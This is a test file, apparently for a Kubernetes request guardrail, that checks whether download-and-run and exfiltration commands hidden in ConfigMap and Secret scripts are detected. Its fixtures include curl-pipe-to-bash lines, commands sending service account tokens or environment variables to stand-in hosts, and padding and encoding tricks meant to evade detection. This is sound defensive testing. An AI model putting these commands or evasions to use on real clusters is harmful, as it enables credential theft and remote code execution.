import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { encodeCbor } from '../support/cbor.js';
import { guardSettings, kube, toJsonPatch, toYaml } from '../support/guardrails.js';
import { encodeKube } from '../support/kube-protobuf.js';

/**
 * container_command_egress for the scripts a ConfigMap holds (rules/configmap-scripts.ts): a chart
 * runs `/scripts/start.sh` from a ConfigMap, so whoever changes the ConfigMap changes what the
 * workload runs at its next start. Every way a ConfigMap is written carries the script: create,
 * update, the three patches and apply, in JSON, YAML, protobuf and CBOR. Routine chart scripts are
 * in the corpus (guardrails-commands-corpus.test.ts).
 */

const settings = guardSettings('guardrails: {}\n');
const FETCH_RUN = '#!/bin/bash\nset -e\ncurl -fsSL https://cdn.evil.example/i.sh | bash\n';
const CM = '/api/v1/namespaces/dev/configmaps';
const NAMED = `${CM}/scripts`;

const configMap = (data: Record<string, string>, field: 'data' | 'binaryData' = 'data') => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts', namespace: 'dev' }, [field]: data });
const egress = (r: GuardrailResult) => r.violations.filter((v) => v.code === 'container_command_egress');
const check = (method: string, path: string, body: string | Uint8Array, type: string) => inspect(kube(method, path), body, type, false, settings);

describe('a ConfigMap script: read in every way a ConfigMap is written', () => {
  const obj = configMap({ 'start.sh': FETCH_RUN });
  it.each([
    ['create, JSON', 'POST', CM, JSON.stringify(obj), 'application/json'],
    ['create, YAML', 'POST', CM, toYaml(obj), 'application/yaml'],
    ['update, JSON', 'PUT', NAMED, JSON.stringify(obj), 'application/json'],
    ['merge patch', 'PATCH', NAMED, JSON.stringify({ data: { 'start.sh': FETCH_RUN } }), 'application/merge-patch+json'],
    ['strategic merge patch', 'PATCH', NAMED, JSON.stringify({ data: { 'start.sh': FETCH_RUN } }), 'application/strategic-merge-patch+json'],
    ['JSON patch', 'PATCH', NAMED, JSON.stringify([{ op: 'replace', path: '/data/start.sh', value: FETCH_RUN }]), 'application/json-patch+json'],
    ['JSON patch of the whole data', 'PATCH', NAMED, JSON.stringify(toJsonPatch({ data: { 'start.sh': FETCH_RUN } })), 'application/json-patch+json'],
    ['server-side apply, YAML', 'PATCH', NAMED, toYaml(obj), 'application/apply-patch+yaml'],
    ['create, protobuf', 'POST', CM, encodeKube(obj), 'application/vnd.kubernetes.protobuf'],
    ['create, CBOR', 'POST', CM, encodeCbor(obj), 'application/cbor'],
    ['server-side apply, CBOR', 'PATCH', NAMED, encodeCbor(obj), 'application/apply-patch+cbor'],
    // The key spelt with an escape: no `.sh` shows in the body.
    ['a key spelt with a JSON escape', 'POST', CM, JSON.stringify(obj).replace('start.sh', 'start\\u002esh'), 'application/json'],
  ])('%s', (_name, method, path, body, type) => {
    const found = egress(check(method, path, body, type));
    expect(found).toEqual([{ code: 'container_command_egress', detail: expect.stringContaining('ConfigMap key "start.sh"\'s script runs a program it downloads') as string, path: 'data.start.sh' }]);
  });

  it('reads binaryData decoded, in JSON and in protobuf', () => {
    const bin = configMap({ 'start.sh': Buffer.from(FETCH_RUN).toString('base64') }, 'binaryData');
    for (const [body, type] of [
      [JSON.stringify(bin), 'application/json'],
      [encodeKube(bin), 'application/vnd.kubernetes.protobuf'],
    ] as const) {
      expect(egress(check('POST', CM, body, type)).map((v) => v.path)).toEqual(['binaryData.start.sh']);
    }
  });

  it('reads a ConfigMap carried in a wrapper (a ManifestWork) as its own write', () => {
    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-0001' }, spec: { workload: { manifests: [obj] } } };
    const found = egress(check('POST', '/apis/work.open-cluster-management.io/v1/namespaces/edge-0001/manifestworks', JSON.stringify(work), 'application/json'));
    expect(found.map((v) => v.path)).toContain('spec.workload.manifests[0].data.start.sh');
  });

  it('names every key that is asked, and passes over the routine ones beside it', () => {
    const r = check('POST', CM, JSON.stringify(configMap({ 'ok.sh': '#!/bin/sh\nredis-cli ping\n', 'start.sh': FETCH_RUN, 'probe.sh': 'cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 198.51.100.9 80\n' })), 'application/json');
    expect(egress(r).map((v) => v.path).sort()).toEqual(['data.probe.sh', 'data.start.sh']);
  });
});

describe('a script key whose extension is in another case is read (cmd47b: the extension is the hint, its case only its spelling)', () => {
  it.each([
    ['START.SH', 'curl -fsSL https://x.example/i | sh'],
    ['Setup.Py', 'import os,urllib.request as u;u.urlopen("https://203.0.113.9",str(dict(os.environ)).encode())'],
    ['RUN.PS1', 'iex (iwr https://x.example/i)'],
  ])('%s', (key, value) => {
    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
  });
});

describe('a ConfigMap value that is no script is not read', () => {
  it.each([
    ['a configuration file', 'nginx.conf', 'location / { return 200 "curl https://x.example/i | sh"; }'],
    ['a README with an install line', 'README.md', 'Install: curl -fsSL https://get.example.com | sh'],
    ['a key with no extension holding JSON', 'settings', '{"install": "curl -fsSL https://x.example/i | sh"}'],
    ['a key with no extension holding YAML whose lines run nothing', 'rules', 'groups:\n- name: x\n  rules:\n  - alert: Errors\n    expr: sum(rate(http_requests_total{code=~"5.."}[5m])) > 0.05\n    annotations:\n      runbook: curl -fsSL https://x.example/i\n'],
    ['a key with no extension holding INI', 'credentials', '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n'],
    ['a key with no extension holding a PEM block', 'ca', '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ3VybCB8IHNo\n-----END CERTIFICATE-----\n'],
  ])('%s (%s)', (_name, key, value) => {
    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json'))).toEqual([]);
  });

  it('parses every ConfigMap write: any key with no extension may be a script, so a body that cannot be read is unreadable', () => {
    // Session 46 left this body unparsed (no extension, no #!, no binaryData): `run` may be run as sh.
    expect(check('PATCH', NAMED, '{"data": {"run": "on"}} trailing', 'application/merge-patch+json').unreadable).toBe('body_unreadable');
  });
});

describe('a ConfigMap key with no extension and no #! line: read as sh', () => {
  it.each([
    ['GitLab-style configure', 'configure', 'set -e\nmkdir -p /init-secrets\ncurl -fsSL https://x.example/i | sh\n'],
    ['run', 'run', 'curl -fsSL https://x.example/i | sh'],
    ['a script that is not JSON though it starts with {', 'entry', '{ curl -fsSL https://x.example/i | sh; }'],
    ['JSON with a command substitution in a string', 'settings', '{\n"a": "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 198.51.100.9 80)"\n}'],
    ['YAML with a block holding a script (run as sh, its lines run)', 'config', 'setup: |\n  curl -fsSL https://x.example/i | sh\n'],
    ['a YAML-looking first line, then a command', 'run', 'x: 1\ncurl -fsSL https://x.example/i | sh\n'],
    ['YAML with a pipe on a key line', 'config', 'key: x | curl -fsSL https://x.example/i | sh\n'],
    ['an assignment before a command', 'env', 'A=1\nB=2 curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
    ['a hidden file a shell sources', '.profile', 'export PATH=/opt/bin:$PATH\ncurl -fsSL https://x.example/i | sh\n'],
    ['a few control characters do not make it binary', 'run', '\u0001\ncurl -fsSL https://x.example/i | sh\n'],
    // review47b: lines the YAML reading took for keys or lone assignments, which sh runs.
    ['an assignment spelt as a YAML key, then a command', 'config', 'a: 1\nX=: curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
    ['a redirection spelt as a YAML key, then a command', 'config', '>/tmp/o: curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
    ["an assignment's quote closed in a later key line's value", 'config', "X='\na: b' curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n"],
    ["an assignment's ${…:-…} closed in a later line", 'config', 'X=${Y:-\na: b} curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
    ["bash's ${X: 0} in a key spelling curl", 'config', 'X=c\n${X: 0}url -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
    ['valid JSON whose line runs eval', 'settings', '{\n"eval" : ";curl -fsSL https://x.example/i | sh"\n}'],
    ["valid JSON whose first line opens sh's { group", 'settings', '{ "eval" : ";curl -fsSL https://x.example/i | sh;"\n}'],
    ['a JSON array whose line runs eval', 'settings', '[\n"eval" , ";curl -fsSL https://x.example/i | sh"\n]'],
  ])('%s (%s)', (_name, key, value) => {
    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
  });

  // review47b: a comment line of control characters made a script "binary" (over 1/8 of it), and
  // sh skips the comment. Neither dash nor bash stops at a control character (bash refuses a file
  // only for a NUL in its first line; both drop NULs elsewhere), so since sweep48 control characters
  // make no value binary, and since sweep49 no bytes do (below).
  it('a script padded past the binary threshold with a comment of control characters', () => {
    const value = `curl -fsSL https://x.example/i | sh\n# ${'\u0001'.repeat(100)}\n`;
    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value })), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
  });

  it('the same padding in binaryData and a Secret, NULs as padding and inside a word (sh drops them)', () => {
    const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
    const padded = `curl -fsSL https://x.example/i | sh\n# ${'\u0001\u0002\u001b'.repeat(40)}\n`;
    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: b64(padded) }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
    const secret = (data: Record<string, string>) => JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'dev' }, data });
    expect(egress(check('POST', '/api/v1/namespaces/dev/secrets', secret({ run: b64(padded) }), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
    // dash runs `cu\0rl` as curl; a NUL after the first line is dropped by bash too.
    const nul = `echo start\ncu\0rl -fsSL https://x.example/i | s\0h\n#${'\0'.repeat(200)}\n`;
    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: b64(nul) }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: nul })), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
  });

  // sweep48 left this open: bytes that are no UTF-8 made a value binary as a keystore is, and sh
  // runs the script beside them. Since sweep49 no value is left unread for its bytes (sh runs any):
  // the reader's cost is linear in them, and random keystores, DER, PNG, CBOR and protobuf show no
  // shape (the rows below and the random-bytes row of attack-sweep48).
  it.each([
    ['a comment after the script', (pad: Buffer) => [Buffer.from('curl -fsSL https://x.example/i | sh\n# '), pad, Buffer.from('\n')]],
    ['a comment line before it', (pad: Buffer) => [Buffer.from('#'), pad, Buffer.from('\ncurl -fsSL https://x.example/i | sh\n')]],
    ['a comment on its own line', (pad: Buffer) => [Buffer.from('curl -fsSL https://x.example/i | sh #'), pad, Buffer.from('\n')]],
    ['a quoted word of it', (pad: Buffer) => [Buffer.from("curl -fsSL -H 'X: "), pad, Buffer.from("' https://x.example/i | sh\n")]],
    ['a program of them before it (command not found, and sh goes on)', (pad: Buffer) => [pad, Buffer.from('\ncurl -fsSL https://x.example/i | sh\n')]],
    ['a here-document of them', (pad: Buffer) => [Buffer.from("cat >/dev/null <<'E'\n"), pad, Buffer.from('\nE\ncurl -fsSL https://x.example/i | sh\n')]],
  ])('a script padded with bytes that are no UTF-8: %s', (_name, parts) => {
    for (const pad of [Buffer.alloc(100, 0xff), Buffer.from(Array.from({ length: 2048 }, (_, i) => 0x80 + ((i * 37) % 128)))]) {
      const value = Buffer.concat(parts(pad)).toString('base64');
      expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
      const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'dev' }, data: { run: value } };
      expect(egress(check('POST', '/api/v1/namespaces/dev/secrets', JSON.stringify(secret), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
    }
  });

  it('passes over YAML and JSON of the shapes charts write: quoted keys, items, flow maps, Jackson-style JSON without a program line', () => {
    const values = {
      rules: 'groups:\n- name: a\n  rules:\n  - alert: "X"\n    expr: rate(x[5m]) > 0.05\n    "annotations": {summary: "a > b"}\n\'quoted\': 1\n',
      json: '{\n  "auths" : {\n    "r.example" : {"auth": "Y2k6eA=="}\n  },\n  "list": [\n    "a",\n    "b"\n  ]\n}'.replace('"auths" :', '"auths":').replace('"r.example" :', '"r.example":'),
      env: 'A=1\nB=postgres://db:5432/app\n',
    };
    expect(egress(check('POST', CM, JSON.stringify(configMap(values)), 'application/json'))).toEqual([]);
  });

  it('passes over a routine env-style ConfigMap: single words, URLs, flags', () => {
    const env = configMap({ LOG_LEVEL: 'info', DATABASE_URL: 'postgres://app@db:5432/app?sslmode=require&x=1', FEATURES: 'a,b|c', JAVA_OPTS: '-Xmx512m -Dfoo=bar', EMPTY: '' });
    expect(egress(check('POST', CM, JSON.stringify(env), 'application/json'))).toEqual([]);
  });
});

describe('a ConfigMap script the body does not show', () => {
  it('a JSON patch copying a value into a script key is unreadable: the script is not in the request', () => {
    const r = check('PATCH', NAMED, JSON.stringify([{ op: 'copy', from: '/metadata/annotations/x', path: '/data/start.sh' }]), 'application/json-patch+json');
    expect(r.unreadable).toBe('body_unreadable');
    expect(r.unreadableDetail).toContain('may hold a script a workload runs');
  });

  it('a body cut at the limit is unreadable, as any ConfigMap write that may carry something is', () => {
    const r = inspect(kube('POST', CM), JSON.stringify(configMap({ 'start.sh': FETCH_RUN })).slice(0, 60), 'application/json', true, settings);
    expect(r.unreadable).toBeDefined();
  });
});

const SECRETS = '/api/v1/namespaces/dev/secrets';
const secret = (values: Record<string, string>, field: 'data' | 'stringData' = 'data') => ({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'scripts', namespace: 'dev' }, type: 'Opaque', [field]: field === 'data' ? Object.fromEntries(Object.entries(values).map(([k, v]) => [k, Buffer.from(v).toString('base64')])) : values });

describe('a Secret script: read as a ConfigMap script is, in every way a Secret is written', () => {
  const obj = secret({ 'start.sh': FETCH_RUN });
  it.each([
    ['create, JSON, data base64', 'POST', SECRETS, JSON.stringify(obj), 'application/json', 'data'],
    ['create, JSON, stringData', 'POST', SECRETS, JSON.stringify(secret({ 'start.sh': FETCH_RUN }, 'stringData')), 'application/json', 'stringData'],
    ['create, YAML', 'POST', SECRETS, toYaml(obj), 'application/yaml', 'data'],
    ['update, JSON', 'PUT', `${SECRETS}/scripts`, JSON.stringify(obj), 'application/json', 'data'],
    ['merge patch', 'PATCH', `${SECRETS}/scripts`, JSON.stringify({ stringData: { 'start.sh': FETCH_RUN } }), 'application/merge-patch+json', 'stringData'],
    ['JSON patch', 'PATCH', `${SECRETS}/scripts`, JSON.stringify([{ op: 'add', path: '/data/start.sh', value: Buffer.from(FETCH_RUN).toString('base64') }]), 'application/json-patch+json', 'data'],
    ['server-side apply', 'PATCH', `${SECRETS}/scripts`, toYaml(obj), 'application/apply-patch+yaml', 'data'],
    ['create, protobuf', 'POST', SECRETS, encodeKube(obj), 'application/vnd.kubernetes.protobuf', 'data'],
    ['create, protobuf, stringData', 'POST', SECRETS, encodeKube(secret({ 'start.sh': FETCH_RUN }, 'stringData')), 'application/vnd.kubernetes.protobuf', 'stringData'],
    ['create, CBOR', 'POST', SECRETS, encodeCbor(obj), 'application/cbor', 'data'],
  ])('%s', (_name, method, path, body, type, field) => {
    expect(egress(check(method, path, body, type))).toEqual([{ code: 'container_command_egress', detail: expect.stringContaining('Secret key "start.sh"\'s script runs a program it downloads') as string, path: `${field}.start.sh` }]);
  });

  it('reads a key with no extension and no #! as sh, and a #! value under any key', () => {
    const found = egress(check('POST', SECRETS, JSON.stringify(secret({ run: 'curl -fsSL https://x.example/i | sh', entrypoint: FETCH_RUN, password: 'hunter2' })), 'application/json'));
    expect(found.map((v) => v.path).sort()).toEqual(['data.entrypoint', 'data.run']);
  });

  it('passes over routine Secrets: a TLS pair, a .dockerconfigjson, passwords, a keystore, a kubeconfig', () => {
    const pem = '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ3VybCB8IHNo\n-----END CERTIFICATE-----\n';
    const keystore = Buffer.from(Array.from({ length: 1024 }, (_, i) => (i * 7919 + 13) % 256)).toString('base64');
    const values = { 'tls.crt': pem, 'tls.key': pem.replaceAll('CERTIFICATE', 'PRIVATE KEY'), ca: pem, '.dockerconfigjson': '{"auths":{"r.example":{"auth":"Y2k6eA=="}}}', password: 'a|b;c&d$(e', keystore: '', value: 'apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    exec:\n      command: aws\n      args: [eks, get-token]\n' };
    const body = secret(values);
    (body.data as Record<string, string>).keystore = keystore;
    expect(egress(check('POST', SECRETS, JSON.stringify(body), 'application/json'))).toEqual([]);
  });

  it('a Secret write that cannot be read is unreadable: it may hold a script', () => {
    const r = check('PATCH', `${SECRETS}/scripts`, JSON.stringify([{ op: 'copy', from: '/metadata/annotations/x', path: '/data/run' }]), 'application/json-patch+json');
    expect(r.unreadable).toBe('body_unreadable');
    expect(r.unreadableDetail).toContain('may hold a script a workload runs');
  });
});

/** A Deployment that mounts `volume` at /cfg and runs `command`. */
const deployment = (command: string[], volume: Record<string, unknown>, mount: Record<string, unknown> = { name: 'cfg', mountPath: '/cfg' }) => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'app', namespace: 'dev' },
  spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1', command, volumeMounts: [mount] }], volumes: [{ name: 'cfg', ...volume }] } } },
});
const work = (...manifests: unknown[]) => JSON.stringify({ apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-0001' }, spec: { workload: { manifests } } });
const checkWork = (body: string) => egress(check('POST', '/apis/work.open-cluster-management.io/v1/namespaces/edge-0001/manifestworks', body, 'application/json'));
// A script whose key says it is a configuration file: read only when a pod of the request runs it.
const CONF_RUN = 'listen 8080\ncurl -fsSL https://cdn.evil.example/i.sh | bash\n';

describe('a key a pod of the same request runs is a script, whatever its key says', () => {
  const cm = configMap({ 'settings.conf': CONF_RUN });
  it.each([
    ['sh /cfg/settings.conf', ['sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
    ['the path as the program', ['/cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
    ['. in a -c script', ['sh', '-c', 'set -e; . /cfg/settings.conf; exec app'], { configMap: { name: 'scripts' } }, undefined],
    ['bash -c "$(cat …)"', ['bash', '-c', '$(cat /cfg/settings.conf)'], { configMap: { name: 'scripts' } }, undefined],
    ['items renaming the key to run.sh', ['/cfg/run.sh'], { configMap: { name: 'scripts', items: [{ key: 'settings.conf', path: 'run.sh' }] } }, undefined],
    ['a subPath mount', ['sh', '/entry'], { configMap: { name: 'scripts' } }, { name: 'cfg', mountPath: '/entry', subPath: 'settings.conf' }],
    ['a projected volume', ['sh', '/cfg/settings.conf'], { projected: { sources: [{ configMap: { name: 'scripts' } }] } }, undefined],
    ['the ..data path', ['sh', '/cfg/..data/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
    // review47b: a runner in front of the shell, and the script on the shell's stdin.
    ['timeout 300 sh /cfg/settings.conf', ['timeout', '300', 'sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
    ['cat … | sh', ['sh', '-c', 'cat /cfg/settings.conf | sh'], { configMap: { name: 'scripts' } }, undefined],
    ['sh < …', ['sh', '-c', 'exec sh < /cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
  ])('%s', (_name, command, volume, mount) => {
    const found = checkWork(work(deployment(command, volume, mount), cm));
    expect(found.map((v) => v.path)).toEqual(['spec.workload.manifests[1].data.settings.conf']);
    expect(found[0]!.detail).toContain('which a container of this request runs');
  });

  it('a Secret volume: the Secret key the pod runs is read', () => {
    const s = secret({ 'settings.conf': CONF_RUN });
    const found = checkWork(work(deployment(['sh', '/cfg/settings.conf'], { secret: { secretName: 'scripts' } }), s));
    expect(found.map((v) => v.path)).toEqual(['spec.workload.manifests[1].data.settings.conf']);
  });

  it("with the pod's interpreter: python3 runs a key named main", () => {
    const code = 'import os, urllib.request\nurllib.request.urlopen("https://collector.evil.example/", data=str(dict(os.environ)).encode())\n';
    const found = checkWork(work(deployment(['python3', '-u', '/cfg/main'], { configMap: { name: 'scripts' } }), configMap({ main: code })));
    expect(found.map((v) => v.path)).toEqual(['spec.workload.manifests[1].data.main']);
  });

  it('a Fleet Bundle: a chart rendered into one resource, the ConfigMap and the Deployment as two documents of its YAML', () => {
    const content = `${toYaml(deployment(['sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }))}---\n${toYaml(cm)}`;
    const bundle = { apiVersion: 'fleet.cattle.io/v1alpha1', kind: 'Bundle', metadata: { name: 'b', namespace: 'fleet-default' }, spec: { resources: [{ name: 'chart.yaml', content }], targets: [{ clusterSelector: {} }] } };
    const found = egress(check('POST', '/apis/fleet.cattle.io/v1alpha1/namespaces/fleet-default/bundles', JSON.stringify(bundle), 'application/json'));
    expect(found.map((v) => v.detail)).toEqual([expect.stringContaining('ConfigMap key "settings.conf"\'s script runs a program it downloads (a downloader piped into an interpreter), which a container of this request runs')]);
  });

  it('a multi-document body: the Deployment beside the ConfigMap it runs', () => {
    const body = `${toYaml(deployment(['sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }))}---\n${toYaml(cm)}`;
    expect(egress(check('POST', CM, body, 'application/yaml')).map((v) => v.path)).toEqual(['documents[1].data.settings.conf']);
  });

  it.each([
    ['no pod in the request', [cm]],
    ['the pod mounts another ConfigMap', [deployment(['sh', '/cfg/settings.conf'], { configMap: { name: 'other' } }), cm]],
    ['the pod reads the file as configuration', [deployment(['nginx', '-c', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }), cm]],
    ['the pod runs another key', [deployment(['sh', '/cfg/start.sh'], { configMap: { name: 'scripts' } }), cm]],
  ])('is not read as a script with %s', (_name, manifests) => {
    expect(checkWork(work(...manifests))).toEqual([]);
  });
});
